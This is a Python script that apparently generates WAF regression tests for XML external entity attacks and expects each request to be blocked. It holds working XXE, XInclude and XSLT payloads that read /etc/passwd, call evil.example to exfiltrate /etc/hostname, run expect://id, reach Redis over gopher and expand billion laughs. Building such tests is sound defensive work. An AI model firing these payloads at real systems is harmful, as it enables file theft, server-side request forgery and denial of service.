"""XML external entities: ``attacks/1140-xxe.yaml``.

XXE documents (file and URL entities, parameter entities and out-of-band
exfiltration, external DTDs, PHP/expect/jar/netdoc schemes, local-DTD
repurposing, billion laughs), XInclude and XSLT file reads, carried where
applications hand them to an XML parser of their own: a parameter (SAML,
SOAP-in-a-field, import features), a JSON string, a multipart field, an XML
element's text, a cookie, a raw ``text/plain`` body.

Whole XML bodies (``application/xml``, ``text/xml``, SOAP) are included too.
Bastion's XML body processor refuses any entity declaration outright, which
the host rule answers with 400 before any rule runs: those tests expect 400
or 403 (both are refusals) and are tagged ``refusal:xml-parser``.
"""

from __future__ import annotations

from typing import Any

from attacks_xss import ftw_safe
from common import API_HEADERS, case, cases, request, write

FAMILY = "xxe"

DOCS: list[str] = [
    ('<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
     "<foo>&xxe;</foo>"),
    ('<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.example/evil.dtd"> %xxe;]>'
     "<foo>bar</foo>"),
    '<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://evil.example/evil.dtd"><data>1</data>',
    ('<!DOCTYPE foo [<!ENTITY xxe SYSTEM '
     '"php://filter/convert.base64-encode/resource=/etc/passwd">]><foo>&xxe;</foo>'),
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "expect://id">]><foo>&xxe;</foo>',
    ('<!DOCTYPE foo [<!ENTITY xxe PUBLIC "-//W3C//TEXT" "http://evil.example/x">]>'
     "<foo>&xxe;</foo>"),
    ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">'
     '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>'),
    ('<foo xmlns:xi="http://www.w3.org/2001/XInclude">'
     '<xi:include parse="text" href="file:///etc/passwd"/></foo>'),
    ('<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % eval '
     "\"<!ENTITY &#x25; exfil SYSTEM 'http://evil.example/?x=%file;'>\">%eval;%exfil;"),
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "jar:http://evil.example/x.jar!/a">]><foo>&xxe;</foo>',
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "netdoc:///etc/passwd">]><foo>&xxe;</foo>',
    ('<!DOCTYPE foo [<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">'
     "<!ENTITY % ISOamso '<!ENTITY &#x25; file SYSTEM \"file:///etc/passwd\">'>"
     "%local_dtd;]><foo/>"),
    ('<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]>'
     '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
     "<getUser><id>&xxe;</id></getUser></soap:Body></soap:Envelope>"),
    ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY y SYSTEM '
     '"gopher://127.0.0.1:6379/_INFO">]><x>&y;</x>'),
    ('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
     '<xsl:template match="/"><xsl:copy-of select="document(\'/etc/passwd\')"/>'
     "</xsl:template></xsl:stylesheet>"),
    ('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
     '<xsl:template match="/"><xsl:value-of select="system-property(\'xsl:vendor\')"/>'
     "</xsl:template></xsl:stylesheet>"),
    ('<svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE svg [<!ENTITY x SYSTEM '
     '"file:///etc/passwd">]><text>&x;</text></svg>'),
]

BODY_TYPES = ["application/xml", "text/xml", "application/soap+xml"]


def build() -> list[dict[str, Any]]:
    tests: list[dict[str, Any]] = []
    rot = ["form", "json", "query", "multipart", "xml", "cookie"]
    for i, doc in enumerate(DOCS):
        places = [rot[i % 6], rot[(i + 2) % 6]] if i % 2 == 0 else [rot[i % 6]]
        tests += cases([doc], family=FAMILY, placements=places)
        if i % 3 == 0:
            enc = ["double-url", "html-entity", "unicode-u"][(i // 3) % 3]
            tests += cases([doc], family=FAMILY, placements=[rot[(i + 4) % 6]],
                           encodings=[enc])
    tests += hand_built()
    return tests


def hand_built() -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []

    def add(inp: dict[str, Any], desc: str, where: str, status: Any = 403,
            extra: tuple[str, ...] = ()) -> None:
        t = case(inp, family=FAMILY, attack=True, desc=desc,
                 tags=[f"placement:{where}", "encoding:plain", *extra])
        t["stages"][0]["output"]["status"] = status
        out.append(t)

    # Whole XML bodies: refused by the XML processor (400) or by a rule (403).
    for i, doc in enumerate(DOCS[:7] + DOCS[11:13]):
        if "<!" not in doc:
            continue
        ctype = BODY_TYPES[i % len(BODY_TYPES)]
        add(request("POST", "/api/v1/orders", {**API_HEADERS, "Content-Type": ctype}, doc),
            f"XML body ({ctype}): {doc[:80]}", "body", [400, 403], ("refusal:xml-parser",))
    # XInclude in an XML body parses fine; only the namespace gives it away.
    add(request("POST", "/api/v1/orders", {**API_HEADERS, "Content-Type": "application/xml"},
                '<order xmlns:xi="http://www.w3.org/2001/XInclude"><id>1</id>'
                '<note><xi:include parse="text" href="file:///etc/passwd"/></note></order>'),
        "XInclude in an application/xml body", "body")
    # XML sent with a type no processor handles.
    for ctype in ("text/plain", "application/octet-stream"):
        add(request("POST", "/api/v1/import", {**API_HEADERS, "Content-Type": ctype},
                    DOCS[0]),
            f"XXE document as a {ctype} body", "body")
    # SAML response in a form field (base64 would hide it; many IdPs post it raw
    # in tests and in the redirect binding after inflation).
    add(request("POST", "/saml/acs", {**API_HEADERS,
                                      "Content-Type": "application/x-www-form-urlencoded"},
                "RelayState=%2F&SAMLResponse=%3C%21DOCTYPE+r+%5B%3C%21ENTITY+x+SYSTEM+"
                "%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E%3Csamlp%3AResponse%3E%26x%3B"
                "%3C%2Fsamlp%3AResponse%3E"),
        "XXE in a SAMLResponse form field", "form")
    return out


def main() -> None:
    write("attacks/1140-xxe.yaml", 1140000, "XML external entities", ftw_safe(build()))


if __name__ == "__main__":
    main()
